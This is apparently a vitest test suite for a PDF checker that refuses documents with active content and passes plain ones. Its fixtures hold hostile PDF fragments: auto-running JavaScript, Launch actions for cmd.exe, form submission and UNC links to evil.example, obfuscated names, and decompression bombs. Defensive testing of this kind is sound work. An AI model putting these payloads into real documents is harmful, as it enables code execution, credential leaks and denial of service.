import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { QueueFull } from "~/backend/concurrency";
import { findModelProblem } from "~/backend/files/pdf/model";
import { findPdfProblem } from "~/backend/files/pdf/objects";
import { requirePassivePdf } from "~/backend/files/pdf/pdf.server";
import { PdfRefused } from "~/backend/files/pdf/problem";
import { flate, flateStream, onePage, pdfOf, revised, streamOf, type PdfLayout } from "../../support/files/pdf";
import { processorMs } from "../../support/timing/processor-time";

const LAYOUTS: readonly PdfLayout[] = ["table", "stream", "packed", "hybrid"];
const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const withScript = () => pdfOf(onePage({ catalogue: `/OpenAction ${SCRIPT}` }));
const bytesOf = (text: string) => Buffer.from(text, "latin1");

const link = (action: string) => `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`;
const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`;
const attached = { 5: "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>", 6: streamOf("MZ", "/Type /EmbeddedFile") };

/** One document for each thing a viewer would do besides showing pages. */
const ACTIVE: readonly (readonly [what: string, parts: Parameters<typeof onePage>[0]])[] = [
  ["a script on opening", { catalogue: `/OpenAction ${SCRIPT}` }],
  ["a script on closing", { catalogue: `/AA << /WC ${SCRIPT} >>` }],
  ["scripts of the document", { catalogue: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }],
  ["a script of a page", { page: `/AA << /O ${SCRIPT} >>` }],
  ["a script of an annotation", { page: annotation(`/Subtype /Link /AA << /E ${SCRIPT} >>`) }],
  ["a script in a stream", { catalogue: "/OpenAction << /S /JavaScript /JS 5 0 R >>", more: { 5: flateStream("1") } }],
  ["an action whose kind stands elsewhere", { catalogue: "/OpenAction << /S 5 0 R >>", more: { 5: "/JavaScript" } }],
  [
    "an action after an action",
    { page: link(`<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next ${SCRIPT} >>] >>`) },
  ],
  ["a program that is started", { page: "/AA << /O << /S /Launch /F (cmd.exe) >> >>" }],
  ["a program that is started by a link", { page: link("<< /S /Launch /F (cmd.exe) >>") }],
  ["another file that is opened", { page: link("<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>") }],
  ["an embedded file that is opened", { page: link("<< /S /GoToE /T << /R /C >> /D [0 /Fit] >>") }],
  ["a form that is sent", { page: link("<< /S /SubmitForm /F (https://evil.example) >>") }],
  ["data that is imported", { page: link("<< /S /ImportData /F (a.fdf) >>") }],
  ["media", { page: annotation("/Subtype /Screen /A << /S /Rendition /OP 0 >>") }],
  ["a film", { page: annotation("/Subtype /Movie /Movie << /F (a.avi) >>") }],
  ["a sound", { page: annotation("/Subtype /Sound /Sound 5 0 R"), more: { 5: streamOf("a", "/R 8000") } }],
  ["rich media", { page: annotation("/Subtype /RichMedia") }],
  [
    "a model in three dimensions",
    { page: annotation("/Subtype /3D /3DD 5 0 R"), more: { 5: streamOf("a", "/Type /3D") } },
  ],
  ["an attached file", { catalogue: "/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>", more: attached }],
  ["a file on a page", { page: annotation("/Subtype /FileAttachment /FS 5 0 R"), more: attached }],
  ["an associated file", { catalogue: "/AF [5 0 R]", more: attached }],
  ["a portfolio", { catalogue: "/Collection << /View /T >>" }],
  ["a form made of XML", { catalogue: "/AcroForm << /Fields [] /XFA 5 0 R >>", more: { 5: streamOf("<xdp/>") } }],
  ["a script nothing refers to", { more: { 5: SCRIPT } }],
  ["a stream that is fetched from elsewhere", { more: { 5: streamOf("", "/F (\\\\\\\\evil.example\\\\a)") } }],
  ["a link that is a script", { page: link("<< /S /URI /URI (javascript:alert\\(1\\)) >>") }],
  ["a link that is a script in octal", { page: link("<< /S /URI /URI (javascript\\072alert) >>") }],
  ["a link to a file", { page: link("<< /S /URI /URI <66696c653a2f2f2f> >>") }],
  ["a link to another computer's folder", { page: link("<< /S /URI /URI (\\\\\\\\evil.example\\\\a) >>") }],
  ["a link that stands elsewhere", { page: link("<< /S /URI /URI 5 0 R >>"), more: { 5: "(javascript:1)" } }],
];

describe("a PDF that does more than show pages", () => {
  describe.each(LAYOUTS)("is found with objects stored as %s:", (layout) => {
    test.each(ACTIVE)("%s", (_, parts) => {
      expect(findPdfProblem(pdfOf(onePage(parts), { layout }))).toBe("active");
    });
  });

  test("is found in a revision, and in one that was replaced", () => {
    const plain = pdfOf(onePage());
    expect(findPdfProblem(revised(plain, onePage({ catalogue: `/OpenAction ${SCRIPT}` })))).toBe("active");
    expect(findPdfProblem(revised(withScript(), onePage()))).toBe("active");
    expect(findPdfProblem(revised(plain, onePage()))).toBeNull();
  });

  test("is found however names are spelt", () => {
    const spelt = ["/J#61vaScript", "/#4a#61#76#61#53#63#72#69#70#74", "/JavaS#63ript"];
    for (const name of spelt)
      for (const layout of LAYOUTS)
        expect(findPdfProblem(pdfOf(onePage({ catalogue: `/OpenAction << /S${name} /JS(1) >>` }), { layout }))).toBe(
          "active",
        );
  });

  test("is found in an object stream with a long dictionary or escaped names in it", () => {
    const objects = onePage({ catalogue: `/OpenAction ${SCRIPT}` });
    const long = `/Padding (${"x".repeat(5_000)}) /More [${"0 ".repeat(5_000)}]`;
    expect(findPdfProblem(pdfOf(objects, { layout: "packed", packedWith: long }))).toBe("active");
    const text = pdfOf(objects, { layout: "packed" }).toString("latin1");
    for (const [plain, escaped] of [
      ["/ObjStm", "/Obj#53tm"],
      ["/First", "/#46irst"],
      ["/N ", "/#4e "],
      ["/Type /ObjStm", ""],
    ] as const)
      expect(findPdfProblem(bytesOf(text.replace(plain, escaped)))).toBe("active");
  });

  test("is found between comments that look like a stream", () => {
    const text = withScript().toString("latin1");
    for (const end of ["\n", "\r", "\r\n"])
      expect(
        findPdfProblem(
          bytesOf(text.replace("1 0 obj", `%stream${end}1 0 obj`).replace("2 0 obj", `%endstream${end}2 0 obj`)),
        ),
      ).toBe("active");
  });

  test.each([
    ["a comment", (object: string) => `% ${object.replaceAll("\n", " ")}\n`],
    ["a string", (object: string) => `90 0 obj (${object}) endobj\n`],
    ["a stream", (object: string) => `90 0 obj ${streamOf(object)} endobj\n`],
    [
      "a stream, with comments in between",
      (object: string) => `90 0 obj ${streamOf(object.replace("91 0 obj", "91%\n0 % a\n%b\n obj"))} endobj\n`,
    ],
    ["a table of offsets", (object: string) => `xref\n${object}trailer << >>\n`],
  ])("is found where only an offset leads, into %s", (_, hide) => {
    const text = pdfOf(onePage()).toString("latin1");
    const hidden = hide(`91 0 obj\n${SCRIPT.replace(/[()]/g, "")}\nendobj\n`);
    expect(findPdfProblem(bytesOf(text.replace("1 0 obj", `${hidden}1 0 obj`)))).toMatch(/active|damaged/);
  });

  test("is refused where two viewers could read it in two ways", () => {
    const ambiguous = [
      "<< /A stream\n/OpenAction << >> >>",
      "<< /A [ >> ] >>",
      "<< /A (not closed >>",
      "<< /A <4x> >>",
      "<< /A 1 2 >>",
      "<< /A >>",
      "<< /A { } >>",
      "<< /A 5 0 obj >>",
      "<< /Length 9 >> stream\n(endstream)\nendstream",
      "<< /Length 9 >> stream garbage\nabc\nendstream",
      "<< /N 1 /First 4 >> stream\n5 9 (<< /S /JavaScript >>)\nendstream",
      "<< /N 2 /First 8 /Filter [/ASCIIHexDecode /FlateDecode] >> stream\n00\nendstream",
      "<< /N 1 /N 2 /First 4 >> stream\n5 0 null\nendstream",
      "<< /N 6 0 R /First 4 >> stream\n5 0 null\nendstream",
      "<< /N 1 /First 4 /DecodeParms << /Predictor 12 >> >> stream\n5 0 null\nendstream",
      `<< /N 2 /First 8 >> stream\n5 4 6 0 << >> << >>\nendstream`,
    ];
    for (const object of ambiguous)
      expect([object, findPdfProblem(pdfOf(onePage({ more: { 5: object } })))]).toEqual([object, "damaged"]);
  });

  test("is found in the document's model as well, as far as pdf.js shows it", async () => {
    const shown =
      /script on|scripts of|script of a page|after an action|attached|on a page|portfolio|XML|film|sound|^media/;
    const seen = ACTIVE.filter(([what]) => shown.test(what) && !what.includes("after an action"));
    expect(seen.length).toBeGreaterThan(8);
    for (const layout of LAYOUTS)
      for (const [what, parts] of seen) {
        const problem = await findModelProblem(Uint8Array.from(pdfOf(onePage(parts), { layout })));
        expect([what, problem]).toEqual([what, "active"]);
      }
  });
});

describe("a PDF that only shows something passes", () => {
  const HONEST: readonly (readonly [what: string, parts: Parameters<typeof onePage>[0]])[] = [
    ["a page", {}],
    ["links", { page: link("<< /S /URI /URI (https://casino.example/Launch/JavaScript?a=\\(1\\)) >>") }],
    [
      "relative links and mailboxes",
      {
        catalogue: "/URI << /Base (https://a.example/) >>",
        page: `/Annots [<< /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (a/b.html) >> >> << /Subtype /Link /Rect [0 0 1 1] /A << /S /URI /URI (mailto\\072a\\100b.example) >> >>]`,
      },
    ],
    ["a place to open at", { catalogue: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /PageMode /UseNone" }],
    [
      "a form without scripts",
      {
        catalogue: "/AcroForm << /Fields [5 0 R] >>",
        page: "/Annots [5 0 R]",
        more: { 5: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Maren) /Rect [0 0 9 9] /F 4 >>" },
      },
    ],
    [
      "text that talks of scripts",
      {
        more: { 5: flateStream("(/JavaScript /Launch) Tj"), 6: "<< /Title (All about /JavaScript and its object) >>" },
      },
    ],
    [
      "text with brackets and backslashes",
      { more: { 5: "[(a \\) \\( (b) \\\\) <48 65> /Name#20x -.5 +1 4. true null 5 0 R]" } },
    ],
    ["comments", { more: { 5: "<< /A % a comment: stream endstream (\n 1 >>" } }],
  ];
  test.each(HONEST)("%s", async (_, parts) => {
    for (const layout of LAYOUTS) {
      const file = pdfOf(onePage(parts), { layout });
      expect([layout, findPdfProblem(file), await findModelProblem(Uint8Array.from(file))]).toEqual([
        layout,
        null,
        null,
      ]);
    }
  });
});

test("a page that Chromium printed passes, with links, form fields, tags and an outline", async () => {
  await expect(requirePassivePdf(readFileSync("tests/fixtures/pdf/printed-by-chromium.pdf"))).resolves.toBeUndefined();
});

describe("a PDF is refused that", () => {
  test("is encrypted, also where its object streams can't be read for it", () => {
    const trailer = "/Encrypt 90 0 R /ID [<00> <00>]";
    expect(findPdfProblem(pdfOf(onePage(), { trailer }))).toBe("locked");
    expect(findPdfProblem(pdfOf(onePage(), { trailer: trailer.replace("/Encrypt", "/Encr#79pt") }))).toBe("locked");
    const packed = pdfOf(onePage(), { layout: "packed", trailer }).toString("latin1");
    const unreadable = packed.replace(/(\/ObjStm[^>]*>>\nstream\n)../, "$1\xff\xff");
    expect(findPdfProblem(bytesOf(unreadable))).toBe("locked");
  });

  test("is cut off, is something else, or goes on after its end", () => {
    const file = pdfOf(onePage());
    expect(findPdfProblem(file.subarray(0, -7))).toBe("damaged");
    expect(findPdfProblem(Buffer.concat([Buffer.from("x"), file]))).toBe("damaged");
    expect(findPdfProblem(Buffer.concat([file, Buffer.from("PK\u0003\u0004")]))).toBe("appended");
    expect(findPdfProblem(Buffer.concat([file, Buffer.from("\r\n\0 ")]))).toBeNull();
  });

  test("unfolds to far more than it is", () => {
    const bomb = flate("0 ".repeat(40 * 1024 * 1024));
    for (const entries of ["/Type /ObjStm /N 1 /First 4", "/Type /XRef /W [1 4 1]"])
      expect(findPdfProblem(pdfOf(onePage({ more: { 5: streamOf(bomb, `/Filter /FlateDecode ${entries}`) } })))).toBe(
        "excessive",
      );
    const half = streamOf(flate(" ".repeat(40 * 1024 * 1024)), "/Filter /FlateDecode /Type /XRef /W [1 4 1]");
    expect(findPdfProblem(pdfOf(onePage({ more: { 5: half, 6: half } })))).toBe("excessive");
  });

  test("nests arrays or dictionaries without end", () => {
    const deep = 200_000;
    expect(findPdfProblem(pdfOf(onePage({ more: { 5: "[".repeat(deep) + "]".repeat(deep) } })))).toBe("excessive");
    expect(findPdfProblem(pdfOf(onePage({ more: { 5: "<< /A ".repeat(deep) + "1" + ">>".repeat(deep) } })))).toBe(
      "excessive",
    );
  });

  test("has too many pages, or can't be opened as a viewer would", async () => {
    const problems = async (objects: Record<number, string>) => findModelProblem(Uint8Array.from(pdfOf(objects)));
    const kids = `<< /Type /Pages /Kids [${"3 0 R ".repeat(1_001)}] /Count 1001 >>`;
    expect(await problems({ ...onePage(), 2: kids })).toBe("excessive");
    expect(await problems({ ...onePage(), 2: "<< /Type /Pages /Kids [2 0 R] /Count 5 >>" })).toBe("damaged");
    expect(await problems({ 1: "<< /Type /Catalog >>", 2: "null" })).toBe("damaged");
  });

  test("claims more than it has, or goes round in circles, is read as what it is", async () => {
    const problems = async (objects: Record<number, string>) => findModelProblem(Uint8Array.from(pdfOf(objects)));
    expect(await problems({ ...onePage(), 2: "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>" })).toBeNull();
    const outline = "<< /First 5 0 R /Last 5 0 R /Next 5 0 R /Prev 5 0 R /Title (a) /Parent 5 0 R >>";
    expect(await problems(onePage({ catalogue: "/Outlines 5 0 R", more: { 5: outline } }))).toBeNull();
    const action = "<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>";
    expect(await problems(onePage({ page: "/AA << /O 5 0 R >>", more: { 5: action } }))).toBeNull();
    const file = pdfOf(onePage()).toString("latin1");
    const entries = file.replace("xref\n0 1\n", "xref\n0 4000000000\n");
    expect(await findModelProblem(Uint8Array.from(bytesOf(entries)))).toBeNull();
  });
});

/** Milliseconds of this process' own work, which a busy machine doesn't stretch. */
function cost(file: Buffer): number {
  const begun = process.cpuUsage();
  findPdfProblem(file);
  return processorMs(begun);
}

describe("time grows no faster than the file:", () => {
  const whole = (text: string) => bytesOf(`%PDF-1.7\n1 0 obj\n${text}\nendobj\n%%EOF\n`);
  const loose = (text: string) => bytesOf(`%PDF-1.7\n${text}\n%%EOF\n`);
  const AMPLIFYING: readonly (readonly [what: string, file: (count: number) => Buffer])[] = [
    ["beginnings of streams", (count) => loose("stream\n".repeat(count))],
    ["streams in an object", (count) => whole("<< >> stream\n" + "stream\n".repeat(count))],
    ["streams that never end", (count) => loose("1 0 obj << >> stream\nendobj\n".repeat(count))],
    ["object streams", (count) => loose("/Type /ObjStm ".repeat(count))],
    ["opening brackets in a string", (count) => whole("(".repeat(count))],
    ["hexadecimal strings that never end", (count) => whole(`[${"<4 ".repeat(count)}]`)],
    ["escapes in a name", (count) => whole(`/${"#41".repeat(count)}`)],
    ["a long number", (count) => whole(`${"1".repeat(count)}x`)],
    ["numbers before a long string", (count) => whole(`[${"1 ".repeat(count)}(${"x".repeat(count)})]`)],
    ["comments between numbers", (count) => whole(`[${"1 %c\n".repeat(count)}]`)],
    ["the word obj in a stream", (count) => whole(streamOf("\n%\n obj".repeat(count)))],
    ["the word obj after comments", (count) => whole(streamOf("%\n".repeat(count) + "obj obj\n".repeat(count)))],
    ["values of one key", (count) => whole(`<< /W [${"1 ".repeat(count)}] >>`)],
    ["objects", (count) => loose("1 0 obj 1 endobj\n".repeat(count))],
  ];
  test.each(AMPLIFYING)("%s", (_, file) => {
    const [small, large] = [file(20_000), file(320_000)];
    cost(small);
    const least = Math.min(cost(small), cost(small), cost(small));
    // Sixteen times the file: with the square, it would be 256 times the work.
    const most = 80 * Math.max(least, 1);
    // Other load on the machine can only lengthen a time, so one of three within the limit is enough.
    expect([1, 2, 3].some(() => cost(large) < most)).toBe(true);
  });

  test("the same bytes are not read again for each object of a stream", () => {
    const head = Array.from({ length: 5_000 }, (_, index) => `${String(index)} 0`).join(" ");
    const content = `${head} [${"1 ".repeat(500_000)}]`;
    const stream = flateStream(content, `/N 5000 /First ${String(head.length)}`);
    expect(findPdfProblem(pdfOf(onePage({ more: { 5: stream } })))).toBe("damaged");
  });
});

describe("the thread that reads PDFs", () => {
  test("passes an honest file and leaves its bytes as they are", async () => {
    const file = pdfOf(onePage(), { layout: "packed" });
    const before = Buffer.from(file);
    await requirePassivePdf(file);
    expect(file.equals(before)).toBe(true);
  });

  test("says what is wrong with another", async () => {
    const refused = requirePassivePdf(withScript());
    await expect(refused).rejects.toThrow(PdfRefused);
    await expect(refused).rejects.toMatchObject({ problem: "active" });
  });

  test("is ended when a file keeps it busy, and the server answers meanwhile", async () => {
    // Each action leads to twenty others: pdf.js follows every way through them.
    const actions = Array.from({ length: 12 }, (_, index) => [
      String(5 + index),
      `<< /S /GoTo /D [3 0 R /Fit] /Next [${`${String(6 + index)} 0 R `.repeat(20)}] >>`,
    ]);
    const more = { ...Object.fromEntries(actions), 17: "<< /S /Named /N /NextPage >>" } as Record<number, string>;
    const endless = pdfOf(onePage({ page: "/AA << /O 5 0 R >>", more }));
    expect(findPdfProblem(endless)).toBeNull();
    let turns = 0;
    const counting = setInterval(() => (turns += 1), 20);
    await expect(requirePassivePdf(endless)).rejects.toMatchObject({ problem: "excessive" });
    clearInterval(counting);
    expect(turns).toBeGreaterThan(50);
  });

  test("unfolds no stream of a size that is not limited", async () => {
    const bomb = flate(" ".repeat(80 * 1024 * 1024));
    const appearance = streamOf(bomb, "/Filter /FlateDecode /Subtype /Form /BBox [0 0 9 9]");
    const page = annotation("/Subtype /FreeText /DA (/F 1 Tf) /AP << /N 5 0 R >>");
    await requirePassivePdf(pdfOf(onePage({ page, more: { 5: appearance } })));
    const metadata = streamOf(bomb, "/Filter /FlateDecode /Type /Metadata /Subtype /XML");
    const described = requirePassivePdf(pdfOf(onePage({ catalogue: "/Metadata 5 0 R", more: { 5: metadata } })));
    await expect(described).rejects.toMatchObject({ problem: "excessive" });
  });

  test("takes no more files than it can read soon", async () => {
    const results = await Promise.allSettled(Array.from({ length: 7 }, () => requirePassivePdf(pdfOf(onePage()))));
    const refused = results.filter((result) => result.status === "rejected");
    expect(refused).toHaveLength(2);
    for (const { reason } of refused) expect(reason).toBeInstanceOf(QueueFull);
  });
});
